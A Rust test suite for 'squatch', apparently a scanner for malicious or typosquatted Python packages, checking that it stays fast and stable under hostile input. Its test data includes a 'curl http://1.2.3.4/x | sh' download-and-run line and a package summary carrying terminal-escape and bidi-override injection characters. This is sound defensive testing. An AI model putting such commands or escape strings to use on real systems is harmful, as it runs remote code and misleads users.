//! Hostile input and evasion (issue 7): what a package that knows squatch
//! can do to it. Each case is a fake host built for the attack; time bounds
//! are generous budgets (a debug build on a busy machine), set far below
//! what the quadratic or unbounded behaviour they guard against took.

mod common;

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::hostile::*;
use common::{as_unprivileged, FakeHost};
use squatch::findings::{scan_source, Role, RuleSet};
use squatch::host::{path_from_column, path_to_column, Host};
use squatch::sql::Engine;

type Rows = Vec<BTreeMap<String, String>>;

fn query(host: &Host, sql: &str) -> Rows {
    let engine = Engine::new(&squatch::tables::registry(Arc::new(host.clone()))).unwrap();
    let r = engine.query(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    let r = &r[0];
    r.rows
        .iter()
        .map(|row| {
            r.columns
                .iter()
                .cloned()
                .zip(row.iter().map(|v| v.clone().unwrap_or_default()))
                .collect()
        })
        .collect()
}

fn squatch(root: &Path, args: &[&str]) -> (i32, String, String, i64) {
    use std::os::unix::process::ExitStatusExt;
    let child = common::squatch_command()
        .arg("--root")
        .arg(root)
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    let out = {
        // Read the pipes first, then reap the child with wait4 for its own
        // peak RSS (other tests' children do not count).
        use std::io::Read;
        let mut child = child;
        let mut so = Vec::new();
        let mut se = Vec::new();
        let mut stdout = child.stdout.take().unwrap();
        let mut stderr = child.stderr.take().unwrap();
        let t = std::thread::spawn(move || {
            let mut se = Vec::new();
            stderr.read_to_end(&mut se).unwrap();
            se
        });
        stdout.read_to_end(&mut so).unwrap();
        se.extend(t.join().unwrap());
        (so, se)
    };
    let mut status = 0;
    // SAFETY: an all-zero rusage is valid; wait4 fills it for our own child.
    let mut ru: libc::rusage = unsafe { std::mem::zeroed() };
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut ru) };
    assert_eq!(r, pid);
    let code = std::process::ExitStatus::from_raw(status).code().unwrap_or(
        128 + std::process::ExitStatus::from_raw(status)
            .signal()
            .unwrap_or(0),
    );
    (
        code,
        String::from_utf8_lossy(&out.0).into_owned(),
        String::from_utf8_lossy(&out.1).into_owned(),
        ru.ru_maxrss,
    )
}

// ---- 1. Long lines: linear scan ------------------------------------------

fn scan_time(bytes: &[u8]) -> Duration {
    let rules = RuleSet::builtin();
    let mut best = Duration::MAX;
    for _ in 0..3 {
        let t = Instant::now();
        let s = scan_source(rules, bytes, Role::Import);
        best = best.min(t.elapsed());
        assert!(!s.binary);
    }
    best
}

fn line(len: usize, byte: u8) -> Vec<u8> {
    let mut v = b"x = '".to_vec();
    v.extend(std::iter::repeat_n(byte, len));
    v.extend_from_slice(b"'\n");
    v
}

#[test]
fn a_one_mib_line_is_scanned_well_under_a_second_through_the_table() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    repeated_char_line(&fh, &site, 1 << 20);
    long_line_package(&fh, &site, 1 << 20, 7);
    let host = fh.host();
    let t = Instant::now();
    let rows = query(
        &host,
        "SELECT path, rule_id, status FROM python_install_findings",
    );
    let took = t.elapsed();
    // Quadratic, the repeated-character line alone took minutes.
    assert!(took < Duration::from_secs(5), "{took:?}");
    // The mixed line is an encoded blob: still found.
    assert!(
        rows.iter()
            .any(|r| r["path"].ends_with("longline/__init__.py") && !r["rule_id"].is_empty()),
        "{rows:#?}"
    );
}

#[test]
fn long_line_scan_time_per_byte_does_not_grow_with_size() {
    // Worst case for the old detector (one repeated base64 character) and a
    // random mix; 64 KiB against 1 MiB, time per byte compared with a
    // generous factor (quadratic would be 16x).
    for byte in [b'A', b'7'] {
        let small = scan_time(&line(64 << 10, byte));
        let big = scan_time(&line(1 << 20, byte));
        let per_small = small.as_secs_f64() / (64 << 10) as f64;
        let per_big = big.as_secs_f64() / (1 << 20) as f64;
        assert!(
            per_big < per_small * 4.0 + 1e-7,
            "{}: 64KiB {small:?}, 1MiB {big:?}",
            byte as char
        );
        assert!(big < Duration::from_secs(1), "1 MiB line: {big:?}");
    }
}

/// A module of `n` small functions, each spawning a download piped to a
/// shell: several hits per function, and a co-occurrence candidate for
/// every other function's hits.
fn many_hits(n: usize) -> Vec<u8> {
    let mut v = Vec::new();
    for i in 0..n {
        v.extend_from_slice(
            format!("def g{i}():\n    __import__('os').system('curl http://1.2.3.4/x | sh')\n")
                .as_bytes(),
        );
    }
    v
}

#[test]
fn many_hits_scan_time_per_hit_does_not_grow_with_their_number() {
    // Co-occurrence rules once compared every hit with every other one: a
    // 4 MB module of 60,000 such functions took a minute. 2,000 against
    // 16,000 functions, time per function compared with a generous factor
    // (quadratic would be 8x).
    let small = scan_time(&many_hits(2_000));
    let big = scan_time(&many_hits(16_000));
    let per_small = small.as_secs_f64() / 2_000.0;
    let per_big = big.as_secs_f64() / 16_000.0;
    assert!(
        per_big < per_small * 3.0 + 1e-6,
        "2,000 functions {small:?}, 16,000 functions {big:?}"
    );
    let s = scan_source(RuleSet::builtin(), &many_hits(16_000), Role::Import);
    assert!(!s.findings.is_empty(), "the hits are still findings");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 6, ..Default::default() })]
    #[test]
    fn random_long_lines_scan_in_linear_time(
        alphabet in proptest::sample::subsequence(
            b"AB+/=_-09azxQ\\\" ()#.".to_vec(), 1..8),
        seed in 1u64..u64::MAX,
    ) {
        let mut s = seed;
        let mut gen = |n: usize| {
            let mut v = b"x = '".to_vec();
            for _ in 0..n {
                s ^= s << 13; s ^= s >> 7; s ^= s << 17;
                v.push(alphabet[(s % alphabet.len() as u64) as usize]);
            }
            v.push(b'\n');
            v
        };
        let small = scan_time(&gen(64 << 10));
        let big = scan_time(&gen(1 << 20));
        let per_small = small.as_secs_f64() / (64 << 10) as f64;
        let per_big = big.as_secs_f64() / (1 << 20) as f64;
        proptest::prop_assert!(per_big < per_small * 4.0 + 1e-7, "{:?} vs {:?}", small, big);
    }
}

// ---- 2. Deep trees: linear walks, bounded depth with a row ---------------

fn findings_time(depth: usize) -> (Duration, Rows) {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    fh.dist(&site, "deeppkg", "1.0")
        .file("deeppkg/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    deep_tree(&fh, &site.join("deeppkg"), depth);
    let host = fh.host();
    let t = Instant::now();
    let rows = query(
        &host,
        "SELECT path, rule_id, status FROM python_install_findings",
    );
    let took = t.elapsed();
    let prov = query(
        &host,
        "SELECT name, record_status, status FROM python_package_provenance",
    );
    (took, rows.into_iter().chain(prov).collect())
}

#[test]
fn a_ten_thousand_deep_tree_is_bounded_and_says_so() {
    let (took, rows) = findings_time(10_000);
    // Was 162 s in a release build, with no row.
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert!(
        rows.iter()
            .any(|r| r.get("status").is_some_and(|s| s.contains("too_deep"))),
        "{rows:#?}"
    );
    let prov = rows
        .iter()
        .find(|r| r.get("name").map(String::as_str) == Some("deeppkg"))
        .unwrap();
    assert!(prov["status"].contains("too_deep"), "{prov:?}");
}

#[test]
fn deep_tree_scan_time_does_not_grow_with_depth() {
    let (small, _) = findings_time(500);
    let (big, _) = findings_time(5_000);
    // Ten times deeper; quadratic would be 100x. Generous, and an absolute
    // floor so that scheduling noise on tiny times does not fail it.
    assert!(
        big < small * 4 + Duration::from_millis(500),
        "depth 500: {small:?}, depth 5000: {big:?}"
    );
}

#[test]
fn an_on_demand_tree_scan_stops_at_its_depth_with_a_row() {
    let fh = FakeHost::new();
    fh.write(
        "/src/proj/setup.py",
        b"from setuptools import setup\nsetup()\n",
    );
    deep_tree(&fh, Path::new("/src/proj"), 2_000);
    let host = fh.host();
    let t = Instant::now();
    let rows = query(
        &host,
        "SELECT path, member, status FROM python_install_findings WHERE path = '/src/proj'",
    );
    assert!(t.elapsed() < Duration::from_secs(10), "{:?}", t.elapsed());
    assert!(
        rows.iter()
            .any(|r| r["path"] == "/src/proj" && r["status"].starts_with("too_deep:")),
        "{rows:#?}"
    );
}

// ---- 3. Symlinked .dist-info and package directory ------------------------

#[test]
fn symlinked_dist_info_and_package_are_followed_inside_the_root() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    let stash = symlinked_dist(&fh, &site);
    // Benign twin beside it: a real directory, no link.
    fh.dist(&site, "requests", "2.32.0")
        .file("requests/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let host = fh.host();
    let prov = query(
        &host,
        "SELECT name, is_link, link_target, record_status FROM python_package_provenance ORDER BY name",
    );
    let squat = prov
        .iter()
        .find(|r| r["name"] == "torch-utilites")
        .unwrap_or_else(|| panic!("no provenance row: {prov:#?}"));
    assert_eq!(squat["is_link"], "1");
    assert_eq!(squat["link_target"], path_to_column(&stash));
    assert_eq!(squat["record_status"], "ok", "{squat:?}");
    let benign = prov.iter().find(|r| r["name"] == "requests").unwrap();
    assert_eq!(
        (benign["is_link"].as_str(), benign["link_target"].as_str()),
        ("0", "")
    );

    let scores = query(
        &host,
        "SELECT name, flagged FROM python_typosquat_scores WHERE name = 'torch-utilites' AND installed = 1",
    );
    assert_eq!(scores.len(), 1, "{scores:#?}");

    let findings = query(
        &host,
        "SELECT path, rule_id, severity FROM python_install_findings WHERE package = 'torch-utilites'",
    );
    assert!(
        findings
            .iter()
            .any(|r| r["path"].ends_with("torch_utilites/__init__.py")
                && matches!(r["severity"].as_str(), "high" | "critical")),
        "{findings:#?}"
    );
}

// ---- 4. Invalid UTF-8 in SQL ----------------------------------------------

#[test]
fn invalid_utf8_from_sqlite_is_read_not_a_crash() {
    let fh = FakeHost::new();
    alice_venv(&fh, "venv");
    let host = fh.host();
    let engine = Engine::new(&squatch::tables::registry(Arc::new(host))).unwrap();
    let r = engine.query("SELECT CAST(X'FF41' AS TEXT) AS v").unwrap();
    assert_eq!(r[0].rows[0][0].as_deref(), Some("\\xffA"));
    for t in [
        "python_environments WHERE path",
        "python_package_provenance WHERE environment",
        "python_install_findings WHERE path",
        "python_typosquat_scores WHERE name",
        "python_typosquat_variants WHERE target",
    ] {
        let sql = format!("SELECT * FROM {t} = CAST(X'2F737263FF' AS TEXT)");
        let _ = engine.query(&sql); // an answer or an error, never a panic
    }
    // Through the command line: exit 0 and well-formed JSON.
    let (code, out, err, _) = squatch(
        fh.root(),
        &["query", "--json", "SELECT CAST(X'FF' AS TEXT) AS v"],
    );
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["v"], "\\xff");
    let (code, _, err, _) = squatch(
        fh.root(),
        &[
            "query",
            "SELECT * FROM python_environments WHERE path = CAST(X'2F737263FF' AS TEXT)",
        ],
    );
    assert_eq!(code, 0, "{err}");
}

// ---- 6. Padded RECORD ---------------------------------------------------

#[test]
fn a_record_padded_past_the_old_limit_is_still_verified() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    // ~90 bytes a line: 200,000 lines is ~18 MB, over the old 16 MiB cap.
    let tampered = padded_record(&fh, &site, 200_000);
    let host = fh.host();
    let rows = query(
        &host,
        "SELECT name, record_status, files_modified, changed_files FROM python_package_provenance WHERE name = 'padded'",
    );
    assert_eq!(rows[0]["record_status"], "modified", "{rows:#?}");
    assert_eq!(rows[0]["files_modified"], "1");
    assert!(rows[0]["changed_files"].contains(&path_to_column(&tampered)));
}

#[test]
fn hunt_reports_unverified_distributions_with_the_reason() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    let d = fh
        .dist(&site, "fifo-record", "1.0")
        .file("fifo_record/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    // RECORD replaced by a FIFO: it cannot be read, so nothing is verified.
    fh.remove(&d.meta("RECORD"));
    fifo(&fh, &d.meta("RECORD"));
    fh.dist(&site, "requests", "2.32.0")
        .file("requests/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let (code, out, err, _) = squatch(fh.root(), &["hunt", "--json"]);
    assert!(code == 0 || code == 1, "{err}");
    let report: serde_json::Value = serde_json::from_str(&out).unwrap();
    let gaps = report["not_covered"].as_array().unwrap();
    let hit = gaps
        .iter()
        .find(|g| g["what"].as_str().unwrap_or("").contains("fifo-record"))
        .unwrap_or_else(|| panic!("{gaps:#?}"));
    assert!(hit["what"].as_str().unwrap().contains("fifo"), "{hit}");
    assert!(
        gaps.iter()
            .all(|g| !g["what"].as_str().unwrap_or("").contains("requests")),
        "{gaps:#?}"
    );
}

// ---- 7. Memory does not follow the attacker -------------------------------

#[test]
fn a_million_line_record_stays_well_under_the_watchdog_limit() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    huge_record(&fh, &site, 1_000_000);
    let (code, out, err, maxrss_kb) = squatch(
        fh.root(),
        &[
            "query",
            "--json",
            "SELECT name, record_status, files_missing FROM python_package_provenance",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let rows: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["files_missing"], "1000000", "{rows:#?}");
    // osquery's watchdog kills an extension at 200 MB; this was 494 MB.
    assert!(maxrss_kb < 100 * 1024, "peak RSS {maxrss_kb} KiB");
    let (code, _, err, maxrss_kb) = squatch(
        fh.root(),
        &["query", "SELECT count(*) FROM python_install_findings"],
    );
    assert_eq!(code, 0, "{err}");
    assert!(maxrss_kb < 100 * 1024, "peak RSS {maxrss_kb} KiB");
}

// ---- 8. Silent coverage gaps -------------------------------------------

#[test]
fn places_squatch_cannot_look_become_rows_with_a_status() {
    let fh = FakeHost::new();
    fh.passwd(&[("alice", 1000, "/home/alice"), ("bob", 1001, "/home/bob")]);
    let locked_site = fh.venv("/home/alice/locked-site", "3.12", false);
    fh.venv("/home/alice/locked-lib", "3.12", false);
    fh.venv("/home/alice/ok", "3.12", false);
    fh.mkdir("/home/bob/proj");
    fh.venv("/home/bob/proj/venv", "3.12", false);
    let fifo_venv = fh.venv("/home/alice/fifo-cfg", "3.12", false);
    let _ = fifo_venv;
    fh.remove(Path::new("/home/alice/fifo-cfg/pyvenv.cfg"));
    fifo(&fh, Path::new("/home/alice/fifo-cfg/pyvenv.cfg"));
    fh.chmod(&locked_site, 0o000);
    fh.chmod("/home/alice/locked-lib/lib", 0o000);
    fh.chmod("/home/bob", 0o000);
    let host = fh.host();
    let rows = as_unprivileged(&fh, || {
        query(
            &host,
            "SELECT path, kind, package_count, status FROM python_environments ORDER BY path",
        )
    });
    let by = |p: &str| {
        rows.iter()
            .find(|r| r["path"] == p)
            .unwrap_or_else(|| panic!("no row for {p}: {rows:#?}"))
    };
    assert!(by("/home/alice/locked-site")["status"].contains("unreadable site directory"));
    assert!(by("/home/alice/locked-lib")["status"].contains("unreadable lib"));
    assert!(by("/home/alice/fifo-cfg")["status"].contains("fifo"));
    assert_eq!(by("/home/alice/fifo-cfg")["kind"], "venv");
    let bob = by("/home/bob");
    assert_eq!(bob["kind"], "unknown");
    assert!(bob["status"].contains("ermission denied"), "{bob:?}");
    assert_eq!(by("/home/alice/ok")["status"], "ok");
}

#[test]
fn a_fifo_installer_does_not_make_a_distribution_look_debian_built() {
    let fh = FakeHost::new();
    let site = fh.system_site("/usr/lib/python3/dist-packages");
    let d = fh
        .dist(&site, "sneaky", "1.0")
        .file("sneaky/__init__.py", b"x = 1\n")
        .write();
    fifo(&fh, &d.meta("INSTALLER"));
    // Benign twin: a Debian-built distribution really has no INSTALLER.
    fh.dist(&site, "debianish", "1.0")
        .file("debianish/__init__.py", b"x = 1\n")
        .write();
    let host = fh.host();
    let rows = query(
        &host,
        "SELECT name, record_reference, record_status, status FROM python_package_provenance ORDER BY name",
    );
    let sneaky = rows.iter().find(|r| r["name"] == "sneaky").unwrap();
    assert_eq!(sneaky["record_reference"], "record", "{sneaky:?}");
    assert!(sneaky["status"].contains("INSTALLER"), "{sneaky:?}");
    let deb = rows.iter().find(|r| r["name"] == "debianish").unwrap();
    assert_eq!(deb["record_reference"], "none", "{deb:?}");
    // And it is logged (warn: visible by default, and with -v).
    let (code, _, err, _) = squatch(
        fh.root(),
        &[
            "-v",
            "query",
            "SELECT name, status FROM python_package_provenance",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("INSTALLER"), "{err}");
}

// ---- 9. Terminal injection -------------------------------------------------

#[test]
fn hostile_names_cannot_drive_or_reorder_the_terminal() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    let evil = "evil\u{202e}txt.py\u{1b}[2J\u{7}\u{200b}";
    fh.dist(&site, "harmless", "1.0")
        .field("Summary", evil)
        .file("harmless/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let sql = "SELECT summary FROM python_package_provenance WHERE name = 'harmless'";
    for fmt in ["--csv", "--line", "--pretty"] {
        let args: Vec<&str> = if fmt == "--pretty" {
            vec!["query", sql]
        } else {
            vec!["query", fmt, sql]
        };
        let (code, out, err, _) = squatch(fh.root(), &args);
        assert_eq!(code, 0, "{err}");
        for bad in ['\u{202e}', '\u{1b}', '\u{7}', '\u{200b}'] {
            assert!(!out.contains(bad), "{fmt}: raw {bad:?} in {out:?}");
        }
        assert!(
            out.contains("evil\\u{202e}txt.py\\x1b[2J\\x07\\u{200b}"),
            "{fmt}: {out}"
        );
    }
    let (_, out, _, _) = squatch(fh.root(), &["query", "--json", sql]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v[0]["summary"], evil, "JSON stays exact");
}

// ---- 10. Non-UTF-8 paths round-trip ------------------------------------

#[test]
fn non_utf8_paths_come_out_reversibly_and_go_back_in() {
    use std::os::unix::ffi::OsStrExt;
    let fh = FakeHost::new();
    fh.passwd(&[("alice", 1000, "/home/alice")]);
    let raw = Path::new(std::ffi::OsStr::from_bytes(b"/home/alice/caf\xe9\\x/venv"));
    let site = fh.venv(raw, "3.12", false);
    fh.dist(&site, "pkg", "1.0")
        .file("pkg/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let host = fh.host();
    let rows = query(&host, "SELECT path FROM python_environments");
    let col = "/home/alice/caf\\xe9\\\\x/venv";
    assert_eq!(
        rows.iter().filter(|r| r["path"] == col).count(),
        1,
        "{rows:#?}"
    );
    assert_eq!(path_from_column(col), raw);
    // Fed back, it finds the same environment, in every python table.
    let again = query(
        &host,
        &format!(
            "SELECT path, status FROM python_environments WHERE path = '{}'",
            col.replace('\'', "''")
        ),
    );
    assert_eq!(again.len(), 1, "{again:#?}");
    let prov = query(
        &host,
        &format!(
            "SELECT name, site_packages FROM python_package_provenance WHERE environment = '{col}'"
        ),
    );
    assert_eq!(prov.len(), 1, "{prov:#?}");
    assert_eq!(path_from_column(&prov[0]["site_packages"]), site);
    let f = query(
        &host,
        &format!("SELECT path FROM python_install_findings WHERE path = '{col}/lib/python3.12/site-packages/pkg/__init__.py'"),
    );
    assert!(f.iter().all(|r| r["path"].starts_with(col)), "{f:#?}");
}

// ---- Fuzz: random bytes through every constraint of every table ----------

#[test]
fn random_bytes_through_every_constraint_of_every_table_never_panic() {
    let fh = FakeHost::new();
    let site = alice_venv(&fh, "venv");
    fh.dist(&site, "pkg", "1.0")
        .file("pkg/__init__.py", b"x = 1\n")
        .installer("pip")
        .write();
    let host = Arc::new(fh.host());
    let tables = squatch::tables::registry(host);
    let engine = Engine::new(&tables).unwrap();
    let mut s: u64 = 0x9e3779b97f4a7c15;
    let mut next = || {
        s ^= s << 13;
        s ^= s >> 7;
        s ^= s << 17;
        s
    };
    let ops = ["=", ">", "<=", "LIKE", "GLOB", "!=", "IS"];
    for t in &tables {
        for c in t.columns() {
            for round in 0..3 {
                let len = (next() % 24) as usize + usize::from(round == 2) * 300;
                let bytes: Vec<u8> = (0..len).map(|_| next() as u8).collect();
                let hex: String = bytes.iter().map(|b| format!("{b:02X}")).collect();
                let op = ops[(next() % ops.len() as u64) as usize];
                let value = if round == 1 {
                    format!("X'{hex}'")
                } else {
                    format!("CAST(X'{hex}' AS TEXT)")
                };
                let sql = format!(
                    "SELECT * FROM {} WHERE \"{}\" {op} {value}",
                    t.name(),
                    c.name
                );
                let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                    let _ = engine.query(&sql);
                }));
                assert!(r.is_ok(), "panic on {sql}");
            }
        }
    }
}
